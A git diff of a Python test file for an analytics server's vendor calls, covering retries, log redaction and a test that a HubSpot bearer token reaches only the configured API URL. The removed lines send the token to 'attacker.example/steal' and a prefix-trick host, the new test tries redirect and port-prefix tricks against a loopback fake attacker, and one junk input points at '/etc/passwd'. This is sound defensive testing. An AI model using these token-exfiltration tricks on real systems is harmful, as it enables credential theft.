@@ -4,7 +4,8 @@ happen, stop, wait as told and never resend a success."""
 from __future__ import annotations
 
 import json
-import logging
+import random
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -13,12 +14,15 @@ from django.db import transaction
 from analytix_frontend.server import dispatch, record_kissmetrics_event, send
 from analytix_frontend.server.calls import Call
 from tests.server import helpers
-from tests.server.conftest import TOKEN, sent, set_server
+from tests.server.conftest import (
+    TOKEN,
+    failures,
+    replayed_call,
+    replays,
+    sent,
+    set_server,
+)
 from tests.server.fake_vendor import HOLD, Answer, FakeVendor
-
-
-def errors(caplog: pytest.LogCaptureFixture) -> list[str]:
-    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
 
 
 def test_a_success_is_sent_once(
@@ -36,7 +40,7 @@ def test_transient_failures_are_retried_until_one_succeeds(
     vendor.answer(status, status)
     record_kissmetrics_event("ada", "Paid")
     assert len(sent(vendor)) == 3
-    assert errors(caplog) == []
+    assert failures(caplog) == []
 
 
 def test_retries_stop_after_retries_and_the_failure_is_logged(
@@ -45,7 +49,7 @@ def test_retries_stop_after_retries_and_the_failure_is_logged(
     vendor.answer(500, 500, 500, 500, 500)
     record_kissmetrics_event("ada", "Paid")
     assert len(sent(vendor)) == 3  # RETRIES = 2 in these tests
-    [error] = errors(caplog)
+    [error] = failures(caplog)
     assert error.startswith("Kissmetrics event failed after 3 attempts: answered 500")
 
 
@@ -56,8 +60,11 @@ def test_other_client_errors_are_not_retried(
     vendor.answer(Answer(status, body='{"message":"bad property"}'))
     record_kissmetrics_event("ada", "Paid")
     assert len(sent(vendor)) == 1
-    [error] = errors(caplog)
-    assert f'Kissmetrics event failed: answered {status}: {{"message":"bad property"}}' in error
+    [error] = failures(caplog)
+    assert error.startswith(f"Kissmetrics event failed: answered {status} (replay ")
+    assert "bad property" not in error  # the vendor's words may quote personal data
+    [replay] = replays(caplog)
+    assert f'Kissmetrics event failed: answered {status}: {{"message":"bad property"}}' in replay
 
 
 def test_retries_zero_means_one_attempt(server_settings: Any, vendor: FakeVendor) -> None:
@@ -97,7 +104,7 @@ def test_a_hanging_vendor_times_out_and_is_retried(
     record_kissmetrics_event("ada", "Paid")
     assert len(sent(vendor)) == 3  # sent() returns: each attempt gave up at the timeout
     assert vendor.answered == 0
-    [error] = errors(caplog)
+    [error] = failures(caplog)
     assert "failed after 3 attempts: no answer within 0.5 s" in error
 
 
@@ -129,9 +136,10 @@ def test_the_backlog_is_bounded_and_overflow_is_logged_for_replay(
     vendor.release()
     [request] = sent(vendor)
     assert request.query["_n"] == "First"
-    [error] = errors(caplog)
+    [error] = failures(caplog)
     assert "Kissmetrics event dropped: 1 calls are already waiting" in error
-    assert send(json.loads(error.split("Replay: ", 1)[1])) is True
+    [replay] = replays(caplog)
+    assert send(replayed_call(replay)) is True
     assert vendor.received[-1].query["_n"] == "Second"
 
 
@@ -195,37 +203,68 @@ def test_a_failing_dispatcher_is_logged_and_never_raises(
 ) -> None:
     set_server(server_settings, DISPATCH="tests.server.helpers.broken_dispatch")
     record_kissmetrics_event("ada", "Paid")
-    [error] = errors(caplog)
+    [error] = failures(caplog)
     assert "could not be queued (dispatcher 'tests.server.helpers.broken_dispatch': " in error
-    assert "ConnectionError) Replay: {" in error or "ConnectionError). Replay: {" in error
+    [replay] = replays(caplog)
+    assert replayed_call(replay)["params"]["_n"] == "Paid"
 
 
 @pytest.mark.parametrize("junk", [{}, {"service": "x"}, [], {"url": "file:///etc/passwd"}])
 def test_send_refuses_what_is_not_a_call(junk: Any, caplog: pytest.LogCaptureFixture) -> None:
     assert send(junk) is False
-    assert errors(caplog)[0].startswith("Not a call, nothing sent")
+    assert failures(caplog)[0].startswith("Not a call, nothing sent")
+
+
+@pytest.fixture
+def vendor_and_attacker() -> Iterator[tuple[FakeVendor, FakeVendor]]:
+    """Two real loopback fakes: the vendor, and an attacker whose port is the vendor's with
+    one more digit, so that `vendor.url + "7/..."` reaches the attacker (the prefix trick)."""
+    for port in random.sample(range(1025, 6553), 40):
+        try:
+            attacker = FakeVendor(port * 10 + 7)
+        except OSError:
+            continue
+        try:
+            vendor = FakeVendor(port)
+        except OSError:
+            attacker.close()
+            continue
+        yield vendor, attacker
+        assert dispatch.flush(timeout=30)
+        vendor.close()
+        attacker.close()
+        return
+    pytest.fail("no free pair of loopback ports")
+
+
+def token_call(url: str, bearer: str = "HUBSPOT_ACCESS_TOKEN") -> dict[str, Any]:
+    return Call("HubSpot", "contact update", "PATCH", url, bearer=bearer).as_dict()
 
 
 def test_the_token_is_only_ever_sent_to_the_hubspot_api_url(
-    server_settings: Any, vendor: FakeVendor, caplog: pytest.LogCaptureFixture
+    settings: Any,
+    vendor_and_attacker: tuple[FakeVendor, FakeVendor],
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
-    other = Call(
-        "HubSpot",
-        "contact update",
-        "PATCH",
-        "https://attacker.example/steal",
-        bearer="HUBSPOT_ACCESS_TOKEN",
-    )
-    prefix_trick = Call(
-        "HubSpot",
-        "contact update",
-        "PATCH",
-        vendor.url + ".attacker.example/x",
-        bearer="HUBSPOT_ACCESS_TOKEN",
-    )
-    other_secret = Call("HubSpot", "x", "PATCH", vendor.url + "/crm/x", bearer="SECRET_KEY")
-    for call in (other, prefix_trick, other_secret):
-        assert send(call.as_dict()) is False
-    assert vendor.received == []
-    assert len(errors(caplog)) == 3
+    vendor, attacker = vendor_and_attacker
+    settings.ANALYTICS_IDS = {**settings.ANALYTICS_IDS, "HUBSPOT_ACCESS_TOKEN": TOKEN}
+    settings.ANALYTICS_CONFIG = {
+        "SERVER": {"RETRIES": 0, "HUBSPOT_API_URL": vendor.url, "KISSMETRICS_URL": attacker.url}
+    }
+    # The attacker is reachable: a call without the token gets there.
+    assert send(Call("Kissmetrics", "event", "GET", f"{attacker.url}/e").as_dict()) is True
+    assert attacker.received[0].path == "/e"
+    vendor.answer(Answer(307, {"Location": f"{attacker.url}/followed"}))
+    attempts = [
+        token_call(f"{attacker.url}/crm/v3/objects/contacts/x"),  # another configured URL
+        token_call(f"{vendor.url}7/crm/v3/objects/contacts/x"),  # the prefix trick
+        token_call(f"{attacker.url}/crm/x", bearer="SECRET_KEY"),  # another secret
+        token_call(f"{vendor.url}/crm/v3/objects/contacts/x"),  # the vendor redirects
+    ]
+    results = [send(call) for call in attempts]
+    assert [r.headers.get("authorization") for r in attacker.received] == [None]
+    assert len(attacker.received) == 1  # only the call without a token
+    assert results == [False] * 4
+    assert [r.headers["authorization"] for r in vendor.received] == [f"Bearer {TOKEN}"]
+    assert len(failures(caplog)) == 4
     assert TOKEN not in caplog.text
